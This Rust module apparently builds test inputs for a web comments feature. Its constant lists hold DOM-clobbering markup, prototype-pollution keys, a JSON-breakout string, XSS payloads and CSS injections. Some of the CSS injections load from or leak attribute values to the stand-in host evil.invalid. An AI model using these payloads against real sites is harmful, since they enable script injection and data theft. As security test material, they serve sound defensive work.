//! Names and ids that stand for something else in a page, in a script or in a file.

use super::{crossed, filled};

/// What scripts ask documents, forms and objects for, and what the page itself has.
const TAKEN: &str = "\
    __proto__ constructor prototype toString valueOf hasOwnProperty then length attributes author text import \
    keys sort comments comments-heading comment- parentNode childNodes children firstChild nodeName namespaceURI \
    innerHTML getElementById querySelector createElement documentElement body head forms cookie location \
    currentScript defaultView";

/// How an element takes a name.
const ELEMENTS: &[&str] = &[
    "<form id={}>",
    "<form><input name={}></form>",
    "<img name={} src=x>",
    "<a id={}></a><a id={} name=x href='javascript:alert(1)'></a>",
    "<iframe name={} srcdoc='<a id={} href=//evil.invalid/></a>'></iframe>",
];

/// Keys that reach the prototype of every object.
const POLLUTING: &[&str] = &[
    r#"{"__proto__":{"polluted":true}}"#,
    r#"{"constructor":{"prototype":{"polluted":true}}}"#,
    r#"__proto__[polluted]=true"#,
    r#"__proto__.polluted=true"#,
    r#"["__proto__"]["polluted"]"#,
    r#"","author":"x","__proto__":{"polluted":true},"x":""#,
    r#"\u005f_proto__"#,
    r#"}]},{"format":"backgrounder-comments","v":1,"comments":[]}"#,
];

/// How a server's text names the passage that it is about.
const HEADS: &[&str] = &[
    "> passage\n> #{}\n\ntext",
    "> {}\n> #talks\n\ntext",
    "> {}",
    "> a\n> b\n> #{}\ntext",
    "> > > #{}\n> #x\n\n> #y\n\nt",
];

/// Sections that there cannot be.
const SECTIONS: &[&str] = &[
    "",
    "#",
    "comments",
    "talks:~:text=evil",
    "talks:~:text=a,-b&text=c",
    "talks&text=c",
    "\"><img src=x onerror=alert(1)>",
    "' onclick='alert(1)",
    "javascript:alert(1)",
    "//evil.invalid/",
    "../../",
    "?x=1",
    "%00",
    "%ZZ",
    "\u{0}",
    "\u{202e}sklat",
    "__proto__",
    "comment-1",
    "a b c",
    "*,*[id]{display:none}",
];

/// What is told to selectors and style sheets.
const STYLES: &[&str] = &[
    "*{display:none!important}",
    "body{background:url(//evil.invalid/x)}",
    "}</style><script>alert(1)</script>",
    "expression(alert(1))",
    "width:expression(alert(1))",
    "-moz-binding:url(//evil.invalid/x.xml#x)",
    "behavior:url(//evil.invalid/x.htc)",
    "color:red;position:fixed;inset:0",
    "@import url(//evil.invalid/x.css);",
    "@font-face{font-family:x;src:url(//evil.invalid/x.woff)}",
    "input[value^=a]{background:url(//evil.invalid/a)}",
    "\\3c script\\3e alert(1)\\3c /script\\3e",
    "/*</style>*/",
    "\"] , [data-act=\"delete\"",
    "'] , * , [id='",
    ":has(*)",
    ":not(",
    "#comment-1",
    "\\",
    "\\0",
];

pub fn names() -> Vec<String> {
    let taken: Vec<&str> = TAKEN.split_whitespace().collect();
    let mut all = crossed(&["", "comment-", "#", " "], &taken);
    all.extend(filled(ELEMENTS, &taken));
    all.extend(filled(&["{}", "<p title='{}'>"], POLLUTING));
    all.extend(filled(HEADS, SECTIONS));
    all.extend(filled(&["{}", "<x style=\"{}\">"], STYLES));
    all
}
